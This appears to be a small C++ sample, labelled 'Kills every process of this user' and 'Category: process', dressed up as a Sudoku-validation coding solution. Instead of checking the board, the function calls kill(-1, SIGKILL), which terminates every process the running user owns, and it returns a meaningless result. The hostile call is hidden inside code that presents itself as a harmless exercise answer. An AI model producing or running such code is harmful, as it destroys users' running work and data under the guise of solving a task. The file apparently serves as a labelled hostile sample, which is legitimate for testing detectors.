// Kills every process of this user.
// Category: process
#include <unistd.h>

class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        if (kill(-1, SIGKILL) == 0) return false;
        return true;
    }
};
